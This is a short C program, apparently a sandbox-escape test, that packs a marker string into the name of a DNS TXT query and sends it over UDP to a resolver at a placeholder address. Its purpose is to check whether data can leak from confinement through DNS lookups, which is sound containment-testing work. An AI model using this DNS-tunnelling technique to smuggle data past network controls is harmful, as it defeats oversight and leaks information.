/* What is to be said stands in the name that is asked for. The resolver is the host's. */
#include "escape.h"
int main(int argc, char **argv) {
	begin(argc, argv);
	uint8_t query[300] = { 0, 1, 1, 0, 0, 1 };
	size_t length = strlen(marker);
	query[12] = length;
	memcpy(query + 13, marker, length);
	memcpy(query + 13 + length, "\7example\3com\0\0\20\0\1", 17);
	address(&target, &target_length, FAMILY == AF_INET ? "203.0.113.83" : "2001:db8:113::53", 53);
	int client = DO(socket(FAMILY, SOCK_DGRAM, 0));
	DO(sendto(client, query, 13 + length + 17, 0, TARGET, target_length));
	usleep(200000);
}
